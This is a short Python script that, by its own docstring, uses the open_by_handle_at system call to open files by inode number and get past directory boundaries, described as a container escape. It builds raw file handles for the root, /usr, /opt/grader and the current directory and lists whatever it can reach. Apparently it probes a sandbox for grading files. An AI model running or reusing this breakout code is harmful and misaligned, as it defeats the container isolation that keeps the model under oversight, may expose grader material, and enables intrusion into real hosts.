"""Opens files by their number on the disc, past every folder (`open_by_handle_at`), as one escapes from a container."""

import ctypes
import os

from kit import *

libc = ctypes.CDLL(None, use_errno=True)
for path in ("/", "/usr", "/opt/grader", "."):
    descriptor = os.open(path, os.O_RDONLY)
    for inode in (2, 128, 256):
        handle = (ctypes.c_char * 16).from_buffer_copy(b"\x08\0\0\0\x01\0\0\0" + inode.to_bytes(4, "little") + b"\0" * 4)
        found = libc.open_by_handle_at(descriptor, handle, os.O_RDONLY)
        if found >= 0:
            mark(f"{path}: {os.listdir(found)}")
